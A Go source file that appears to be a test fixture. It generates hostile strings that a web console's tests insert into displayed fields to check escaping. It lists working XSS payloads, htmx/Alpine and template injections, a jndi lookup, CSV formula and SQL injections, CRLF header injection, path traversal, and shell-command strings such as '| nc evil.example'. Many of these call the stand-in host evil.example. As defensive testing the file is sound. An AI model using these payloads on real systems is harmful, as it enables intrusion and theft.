// Package hostile has texts that run, load, go somewhere, break out or break when somebody shows them as they are. The console's
// tests put them into every field that a page shows, and conformance/browser does so in Chromium.
package hostile

import (
	"fmt"
	"strings"
)

// Text is a hostile text. One that ran would call hostile(N) with its number, or leave for evil.example.
type Text struct {
	Kind string // what it is made for
	Text string
}

// Valid says whether it is UTF-8 without null bytes, which is what fields of text in Kafka's protocol and JSON take.
func (t Text) Valid() string {
	return strings.ReplaceAll(strings.ToValidUTF8(t.Text, "\ufffd"), "\x00", "\u2400")
}

// Texts are all of them, each once.
func Texts() []Text {
	var all []Text
	for _, kind := range kinds {
		for _, form := range kind.forms {
			all = append(all, Text{kind.name, strings.ReplaceAll(form, "№", fmt.Sprint(len(all)))})
		}
	}
	return append(all, long()...)
}

// long are texts that are hostile by their length.
func long() []Text {
	return []Text{
		{"length", strings.Repeat("w", 4000)}, {"length", strings.Repeat("long words ", 360)}, {"length", strings.Repeat("🙂", 900)}, {"length", strings.Repeat("<b>", 1300)},
		{"length", strings.Repeat("&amp;", 700)}, {"length", strings.Repeat("e\u0301", 1000)}, {"length", "z" + strings.Repeat("\u0300\u0316\u0489", 400)}, {"length", strings.Repeat("[", 3000)},
	}
}

// TopicNames are those that a topic may have: letters, digits, dots, underscores and hyphens, at most 249 of them. So nothing of
// what is above can be one; these are the worst that can.
func TopicNames() []string {
	return []string{
		"-", "_", "...", "-_.", "..a", "a..", "script", "javascript", "onerror", "constructor", "__proto__", "prototype", "hasOwnProperty", "null", "undefined", "true", "NaN", "0", "-1", "1e9",
		"new", "produce", "delete", "messages", "config", "static", "healthz", "console.js", "robots.txt", ".htaccess", "-rf", "--help", "CON", "LPT1", "x-data", "hx-get", "data-copy", "innerHTML",
		strings.Repeat("t", 249), strings.Repeat("a.", 124),
	}
}

var kinds = []struct {
	name  string
	forms []string
}{
	{"script", []string{
		`<script>hostile(№)</script>`, `<SCRIPT>hostile(№)</SCRIPT>`, `<script src=//evil.example/№.js></script>`, `<script type=module>hostile(№)</script>`, `<script
>hostile(№)</script
>`, `<script/x>hostile(№)</script>`, `<<script>hostile(№);//<</script>`, `<scr<script>ipt>hostile(№)</scr</script>ipt>`, `<script>/*</script><script>*/hostile(№)</script>`,
		`<script type="text/x-template">{{hostile(№)}}</script>`, `<noscript><p title="</noscript><script>hostile(№)</script>">`, `<script nonce="">hostile(№)</script>`, `<script async defer src="data:text/javascript,hostile(№)"></script>`,
		`<script type=importmap>{"imports":{"x":"//evil.example/№.js"}}</script>`, `<script type=speculationrules>{"prefetch":[{"urls":["//evil.example/№"]}]}</script>`,
	}},
	{"breaking out", []string{
		`"><script>hostile(№)</script>`, `'><script>hostile(№)</script>`, `</title><script>hostile(№)</script>`, `</textarea><script>hostile(№)</script>`, `</style><script>hostile(№)</script>`, `</script><script>hostile(№)</script>`,
		`--><script>hostile(№)</script><!--`, `]]><script>hostile(№)</script>`, `</code></td></tr></table><script>hostile(№)</script>`, `</pre></div></main></body></html><script>hostile(№)</script>`, `</template><script>hostile(№)</script>`,
		`</option></select><script>hostile(№)</script>`, `</button></form><form action=//evil.example/№><button autofocus>x`, `</svg><script>hostile(№)</script>`, `</noscript><script>hostile(№)</script>`, `</a><a href=//evil.example/№ ping=//evil.example/№>x</a>`,
		`</summary></details></dialog><script>hostile(№)</script>`, "`-hostile(№)-`", `<!--><script>hostile(№)</script>-->`, `<![CDATA[<script>hostile(№)</script>]]>`, `<?xml version="1.0"?><script>hostile(№)</script>`, `<!DOCTYPE x [<!ENTITY e "hostile(№)">]>&e;`,
	}},
	{"event handler", []string{
		`<img src=x onerror=hostile(№)>`, `<img src=x:x onerror="hostile(№)" />`, `<IMG SRC=x ONERROR=hostile(№)>`, `<img/src=x/onerror=hostile(№)>`, "<img src=x onerror\n=\nhostile(№)>", `<img srcset="//evil.example/№.png 1x">`, `<body onload=hostile(№)>`,
		`<input autofocus onfocus=hostile(№)>`, `<select autofocus onfocus=hostile(№)>`, `<textarea autofocus onfocus=hostile(№)>`, `<video><source onerror=hostile(№)></video>`, `<audio src=x onerror=hostile(№)>`, `<details open ontoggle=hostile(№)>x</details>`,
		`<marquee onstart=hostile(№)>x</marquee>`, `<div onpointerover=hostile(№)>over</div>`, `<div tabindex=0 autofocus onfocusin=hostile(№)>x</div>`, `" onmouseover="hostile(№)" x="`, `' onfocus='hostile(№)' autofocus='`, `x onanimationstart=hostile(№) style=animation-name:x`,
		`" autofocus onfocus=hostile(№) "`, `<p onbeforematch=hostile(№) hidden=until-found>x`, `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=hostile(№)>x</div>`, `<form onformdata=hostile(№)><button>x</button></form>`, `<dialog open oncancel=hostile(№) onclose=hostile(№)>x</dialog>`,
	}},
	{"SVG and MathML", []string{
		`<svg onload=hostile(№)>`, `<svg/onload=hostile(№)//`, `<svg><script>hostile(№)</script></svg>`, `<svg><script href="//evil.example/№.js"/></svg>`, `<svg><animate onbegin=hostile(№) attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:hostile(№)"><text y=20>x</text></a></svg>`,
		`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>hostile(№)</script></svg>#x"></svg>`, `<svg><foreignObject><body onload=hostile(№)></foreignObject></svg>`, `<svg><image href=x onerror=hostile(№)></svg>`, `<svg><set attributeName=href to=javascript:hostile(№)>`,
		`<math><mi xlink:href="javascript:hostile(№)">x</mi></math>`, `<math><maction actiontype=statusline xlink:href=javascript:hostile(№)>x</maction></math>`, `<math><mtext><table><mglyph><style><img src=x onerror=hostile(№)>`, `<svg><style>@import "//evil.example/№.css"</style></svg>`,
	}},
	{"address", []string{
		`javascript:hostile(№)`, `JaVaScRiPt:hostile(№)`, "java\nscript:hostile(№)", "\x01javascript:hostile(№)", `javascript&colon;hostile(№)`, `javascript:%68ostile(№)`, `javascript://evil.example/%0ahostile(№)`, `vbscript:hostile(№)`, `data:text/html,<script>hostile(№)</script>`,
		`data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=№`, `//evil.example/№`, `\\evil.example\№`, `/\evil.example/№`, `https:evil.example/№`, `http://evil.example/№`, `blob:http://evil.example/№`, `file:///etc/passwd?№`, `<a href="javascript:hostile(№)">click</a>`, `<a href=" javascript:hostile(№)">click</a>`,
		`../../../hostile(№)`, `..%2f..%2fhostile(№)`, `./././№`, `?at=1&hostile=№`, `#hostile(№)`, `;hostile(№)`, `%00hostile(№)`, `@evil.example/№`,
	}},
	{"loading", []string{
		`<iframe srcdoc="<script>parent.hostile(№)</script>"></iframe>`, `<iframe src="javascript:parent.hostile(№)"></iframe>`, `<iframe src=//evil.example/№></iframe>`, `<object data="//evil.example/№"></object>`, `<embed src="//evil.example/№">`, `<link rel=stylesheet href="//evil.example/№.css">`,
		`<link rel=prefetch href="//evil.example/№">`, `<link rel=manifest href="//evil.example/№">`, `<base href="//evil.example/№/">`, `<meta http-equiv=refresh content="0;url=//evil.example/№">`, `<meta http-equiv=Content-Security-Policy content="script-src *">№`, `<meta charset=utf-7>+ADw-script+AD4-hostile(№)+ADw-/script+AD4-`,
		`<form action="//evil.example/№"><button autofocus>x</button></form>`, `<input type=image src=//evil.example/№.png formaction=//evil.example/№>`, `<template shadowrootmode=open><script>hostile(№)</script></template>`, `<portal src=//evil.example/№></portal>`, `<frameset onload=hostile(№)><frame src=//evil.example/№>`, `<img src="//evil.example/№.png">`, `<video poster=//evil.example/№.png>`, `<track src=//evil.example/№.vtt default>`,
	}},
	{"style", []string{
		`<style>@import "//evil.example/№.css"</style>`, `<style>*{background:url(//evil.example/№.png)}</style>`, `<div style="background:url(//evil.example/№.png)">x</div>`, `" style="position:fixed;inset:0;background:red" x="№`, `<div style="width:expression(hostile(№))">x</div>`, `}body{display:none}/*№`, `</style><style>main{display:none}№`,
		`<p class="toast note bad" role=alert>hostile №</p>`, `<dialog open id=dialog><h1>hostile №</h1></dialog>`, `<div id=problem>hostile №</div>`, `<form id=getElementById name=cookie><input name=hostile></form>№`, `<a id=location href=//evil.example/№>x</a>`,
	}},
	{"template of Go", []string{
		`{{hostile(№)}}`, `{{.}}№`, `{{printf "%s" "hostile(№)"}}`, `{{template "layout" .}}№`, `{{define "layout"}}hostile(№){{end}}`, `{{range .}}{{.}}{{end}}№`, `{{/* hostile(№) */}}`, `{{"<script>hostile(№)</script>"}}`, `{{visited "hostile№"}}`, `{{call .hostile №}}`,
	}},
	{"Alpine", []string{
		`{{constructor.constructor('hostile(№)')()}}`, `<div x-data="hostile(№)" x-init="hostile(№)">x</div>`, `<div x-data x-html="'<img src=x onerror=hostile(№)>'">x</div>`, `<div x-data x-text="hostile(№)">x</div>`, `<button x-data @click="hostile(№)" autofocus>x</button>`, `<div x-data x-on:load.window="hostile(№)">x</div>`,
		`<template x-data x-for="i in hostile(№)"><p>x</p></template>`, `<div x-data x-effect="hostile(№)">x</div>`, `<div x-data :class="hostile(№)">x</div>`, `<div x-data="toast" x-show="hostile(№)">x</div>`, `" x-data="{a:hostile(№)}" x-init="a`, `<p x-ignore x-teleport="body">hostile №</p>`,
	}},
	{"htmx", []string{
		`<div hx-get="/broker" hx-trigger="load" hx-on::load="hostile(№)">x</div>`, `<div hx-post="/preferences" hx-trigger="load" hx-vals='{"theme":"dark"}'>№</div>`, `<div hx-on:click="hostile(№)" hx-trigger="load">x</div>`, `<div hx-vals="js:{a:hostile(№)}" hx-get="/" hx-trigger="load">x</div>`,
		`x' hx-get='/topics' hx-trigger='load' hx-target='body' x='№`, `" hx-delete="/topics" hx-trigger="load" x="№`, `<div data-hx-get="/" data-hx-trigger="load[hostile(№)]">x</div>`, `<div hx-ext="hostile№" hx-ws="connect:ws://evil.example/№">x</div>`, `<meta name="htmx-config" content='{"allowEval":true,"selfRequestsOnly":false}'>№`,
		`<div hx-disinherit="*" hx-include="body" hx-get="//evil.example/№" hx-trigger="load">x</div>`, `<div id=main hx-swap-oob="true">hostile №</div>`, `<button data-copy="hostile(№)" data-when-typed data-go="t">x</button>`,
	}},
	{"other templates", []string{
		`${hostile(№)}`, `#{hostile(№)}`, `<%= hostile(№) %>`, `[[hostile(№)]]`, `{%25 hostile(№) %25}`, `*{hostile(№)}`, `$(hostile №)`, "`hostile №`", `%{hostile(№)}`, `{hostile(№)}`, `${jndi:ldap://evil.example/№}`, `';hostile(№);'`, `\";hostile(№);//`, `\u003cscript\u003ehostile(№)\u003c/script\u003e`, `\x3cscript\x3ehostile(№)\x3c/script\x3e`,
	}},
	{"entities and encodings", []string{
		`&lt;script&gt;hostile(№)&lt;/script&gt;`, `&#60;img src=x onerror=hostile(№)&#62;`, `&#x3C;svg onload=hostile(№)&#x3E;`, `&amp;lt;script&amp;gt;hostile(№)`, `&quot;&gt;&lt;script&gt;hostile(№)`, `&NewLine;&Tab;javascript:hostile(№)`, `%3Cscript%3Ehostile(№)%3C/script%3E`, `%253Cscript%253Ehostile(№)`, `+ADw-script+AD4-hostile(№)`,
		`＜script＞hostile(№)＜/script＞`, `‹script›hostile(№)‹/script›`, "<scr\u200bipt>hostile(№)</script>", "<ſcript>hostile(№)</ſcript>", "\ufeff<script>hostile(№)</script>", "<img src=x onerror=\u2028hostile(№)>", "<\u0131mg src=x onerror=hostile(№)>",
	}},
	{"control characters and direction", []string{
		"\u202ehostile(№)\u202c", "\u2066\u202e)№(elitsoh\u2069", "a\u200fb\u200e№", "hostile\x00(№)", "\x00<script>hostile(№)</script>", "a\r\nSet-Cookie: hostile=№", "a\r\n\r\n<script>hostile(№)</script>", "a\nb\tc №", "\x1b[2J\x1b]0;hostile №\x07", "\x08\x08\x08№", "\u2028hostile(№)\u2029", "\u0085№\u000b\u000c", "\x7f№\u009b31m", "\ufffe\uffff№", "\U000e0041\U000e0042№", "\u00ad\u2060\u3164№", "\t№", " № ", "\n№",
	}},
	{"broken UTF-8", []string{
		"\xff\xfe<script>hostile(№)</script>", "\xc0\xbcscript\xc0\xbehostile(№)", "\xed\xa0\x80№", "\xf4\x90\x80\x80№", "a\x80b№", "\xe2\x82", "<img src=x onerror=hostile(№) \xc3>", "\xf0\x9f\x99№",
	}},
	{"spreadsheets, JSON and shells", []string{
		`=HYPERLINK("http://evil.example/№","x")`, `+cmd|' /C calc'!A№`, `-2+3+cmd|' /C calc'!A№`, `@SUM(1+1)*cmd|' /C calc'!A№`, "\t=1+№", `"=1+№"`, `a","b","hostile №`, "a\"\"\nb,№", `{"__proto__":{"hostile":№}}`, `{"a":1e999999,"№":[[[[]]]]}`, `"}],"hostile":[{"№":"`, `'; drop table topics; --№`, `' or '1'='1' --№`, `$(touch /hostile№)`, `| nc evil.example №`, `%s%n%x№`, `../../../../etc/passwd№`, `-rf №`,
	}},
}
